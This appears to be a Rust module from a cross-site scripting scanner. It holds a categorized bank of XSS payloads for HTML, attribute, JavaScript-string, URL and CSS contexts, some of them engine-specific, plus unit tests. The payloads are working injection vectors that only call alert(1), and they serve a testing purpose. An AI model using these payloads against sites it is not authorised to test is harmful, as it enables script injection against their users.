//! Payload corpus: categories, the built-in bank, and generation.
//!
//! Payloads are opaque strings. Structure lives on the category: each
//! category targets one injection context (with an optional attribute
//! refinement) and declares which browser engines its payloads work in.

pub mod generator;
pub mod selector;

pub use generator::{GeneratorOptions, generate, write_categorized_file};
pub use selector::{SelectionInput, select_payloads};

use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

use crate::config::BrowserKind;
use crate::context::{AttributeKind, InjectionContext};

/// A named, described group of payloads sharing a target context and a
/// browser compatibility set.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PayloadCategory {
    pub name: String,
    pub description: String,
    /// Engines these payloads are known to fire in.
    pub compatibility: BTreeSet<BrowserKind>,
    pub context: InjectionContext,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub attribute_kind: Option<AttributeKind>,
    pub payloads: Vec<String>,
}

impl PayloadCategory {
    pub fn supports(&self, browser: BrowserKind) -> bool {
        self.compatibility.contains(&browser)
    }

    /// True when this category only fires in exactly this engine.
    pub fn exclusive_to(&self, browser: BrowserKind) -> bool {
        self.compatibility.len() == 1 && self.supports(browser)
    }
}

/// Caller-supplied payloads: either a flat list used as-is, or an array
/// of category records filtered by browser compatibility.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(untagged)]
pub enum PayloadInput {
    Flat(Vec<String>),
    Categorized(Vec<PayloadCategory>),
}

impl PayloadInput {
    /// Flatten for a specific engine, preserving category order and
    /// dropping incompatible categories.
    pub fn flatten_for(&self, browser: BrowserKind) -> Vec<String> {
        match self {
            Self::Flat(list) => list.clone(),
            Self::Categorized(categories) => categories
                .iter()
                .filter(|c| c.supports(browser))
                .flat_map(|c| c.payloads.iter().cloned())
                .collect(),
        }
    }
}

fn all_browsers() -> BTreeSet<BrowserKind> {
    BrowserKind::ALL.into_iter().collect()
}

fn only(browser: BrowserKind) -> BTreeSet<BrowserKind> {
    std::iter::once(browser).collect()
}

/// Small default set used when the caller supplies nothing and no
/// smarter source is enabled.
pub fn default_bank() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".to_string(),
        "<img src=x onerror=alert(1)>".to_string(),
        "<svg onload=alert(1)>".to_string(),
        "\"><script>alert(1)</script>".to_string(),
        "' onmouseover=alert(1) x='".to_string(),
        "javascript:alert(1)".to_string(),
    ]
}

/// The built-in categorized corpus: one category per context and
/// attribute kind, plus engine-exclusive categories.
pub fn builtin_categories() -> Vec<PayloadCategory> {
    let mut categories = vec![
        PayloadCategory {
            name: "html-body".into(),
            description: "Markup injected directly into HTML content".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Html,
            attribute_kind: None,
            payloads: vec![
                "<script>alert(1)</script>".into(),
                "<img src=x onerror=alert(1)>".into(),
                "<svg onload=alert(1)>".into(),
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>".into(),
                "<details open ontoggle=alert(1)>".into(),
                "<body onload=alert(1)>".into(),
            ],
        },
        PayloadCategory {
            name: "attr-unquoted".into(),
            description: "Breakouts from unquoted attribute values".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Attribute,
            attribute_kind: Some(AttributeKind::Unquoted),
            payloads: vec![
                "x onmouseover=alert(1)".into(),
                "x autofocus onfocus=alert(1)".into(),
                "x onclick=alert(1)".into(),
            ],
        },
        PayloadCategory {
            name: "attr-single-quoted".into(),
            description: "Breakouts from single-quoted attribute values".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Attribute,
            attribute_kind: Some(AttributeKind::SingleQuoted),
            payloads: vec![
                "' onmouseover=alert(1) x='".into(),
                "' autofocus onfocus=alert(1) x='".into(),
                "'><script>alert(1)</script>".into(),
            ],
        },
        PayloadCategory {
            name: "attr-double-quoted".into(),
            description: "Breakouts from double-quoted attribute values".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Attribute,
            attribute_kind: Some(AttributeKind::DoubleQuoted),
            payloads: vec![
                "\" onmouseover=alert(1) x=\"".into(),
                "\" autofocus onfocus=alert(1) x=\"".into(),
                "\"><script>alert(1)</script>".into(),
                "\"><img src=x onerror=alert(1)>".into(),
            ],
        },
        PayloadCategory {
            name: "attr-event-handler".into(),
            description: "Values landing inside an existing on* handler".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Attribute,
            attribute_kind: Some(AttributeKind::EventHandler),
            payloads: vec![
                "alert(1)".into(),
                "x onmouseover=alert(1)".into(),
                "\" autofocus onfocus=alert(1) x=\"".into(),
                "');alert(1);//".into(),
            ],
        },
        PayloadCategory {
            name: "js-string".into(),
            description: "Breakouts from JavaScript string literals".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Js,
            attribute_kind: None,
            payloads: vec![
                "';alert(1);//".into(),
                "\";alert(1);//".into(),
                "</script><script>alert(1)</script>".into(),
                "${alert(1)}".into(),
            ],
        },
        PayloadCategory {
            name: "url-scheme".into(),
            description: "Scheme-based execution in URL sinks".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Url,
            attribute_kind: None,
            payloads: vec![
                "javascript:alert(1)".into(),
                "javascript:alert(1)//".into(),
                "data:text/html,<script>alert(1)</script>".into(),
            ],
        },
        PayloadCategory {
            name: "css-expression".into(),
            description: "Style-sink escapes".into(),
            compatibility: all_browsers(),
            context: InjectionContext::Css,
            attribute_kind: None,
            payloads: vec![
                "</style><script>alert(1)</script>".into(),
                "x:expression(alert(1))".into(),
                "x;background:url(javascript:alert(1))".into(),
            ],
        },
    ];

    // Engine-exclusive vectors, appended by the selector when the active
    // engine matches.
    categories.push(PayloadCategory {
        name: "chromium-only".into(),
        description: "Vectors relying on Blink-specific parsing".into(),
        compatibility: only(BrowserKind::Chromium),
        context: InjectionContext::Html,
        attribute_kind: None,
        payloads: vec![
            "<video><source onerror=alert(1)>".into(),
            "<input autofocus onfocus=alert(1)>".into(),
        ],
    });
    categories.push(PayloadCategory {
        name: "firefox-only".into(),
        description: "Vectors relying on Gecko-specific parsing".into(),
        compatibility: only(BrowserKind::Firefox),
        context: InjectionContext::Html,
        attribute_kind: None,
        payloads: vec!["<marquee onstart=alert(1)>".into()],
    });
    categories.push(PayloadCategory {
        name: "webkit-only".into(),
        description: "Vectors relying on WebKit-specific parsing".into(),
        compatibility: only(BrowserKind::Webkit),
        context: InjectionContext::Html,
        attribute_kind: None,
        payloads: vec!["<animate onbegin=alert(1) attributeName=x dur=1s>".into()],
    });

    categories
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn categorized_input_filters_by_browser() {
        let input = PayloadInput::Categorized(builtin_categories());
        let chromium = input.flatten_for(BrowserKind::Chromium);
        let firefox = input.flatten_for(BrowserKind::Firefox);
        assert!(chromium.iter().any(|p| p.contains("<source onerror")));
        assert!(!firefox.iter().any(|p| p.contains("<source onerror")));
        assert!(firefox.iter().any(|p| p.contains("marquee")));
    }

    #[test]
    fn flat_input_passes_through() {
        let input = PayloadInput::Flat(vec!["<b>x</b>".into()]);
        assert_eq!(input.flatten_for(BrowserKind::Webkit), vec!["<b>x</b>"]);
    }

    #[test]
    fn payload_input_deserializes_both_shapes() {
        let flat: PayloadInput = serde_json::from_str(r#"["<b>1</b>", "<i>2</i>"]"#).unwrap();
        assert!(matches!(flat, PayloadInput::Flat(ref l) if l.len() == 2));

        let categorized: PayloadInput = serde_json::from_str(
            r#"[{
                "name": "html-body",
                "description": "d",
                "compatibility": ["chromium"],
                "context": "html",
                "payloads": ["<script>alert(1)</script>"]
            }]"#,
        )
        .unwrap();
        assert!(matches!(categorized, PayloadInput::Categorized(ref c) if c.len() == 1));
    }

    #[test]
    fn exclusive_detection() {
        let categories = builtin_categories();
        let ff = categories.iter().find(|c| c.name == "firefox-only").unwrap();
        assert!(ff.exclusive_to(BrowserKind::Firefox));
        assert!(!ff.exclusive_to(BrowserKind::Chromium));
        let html = categories.iter().find(|c| c.name == "html-body").unwrap();
        assert!(!html.exclusive_to(BrowserKind::Chromium));
    }
}
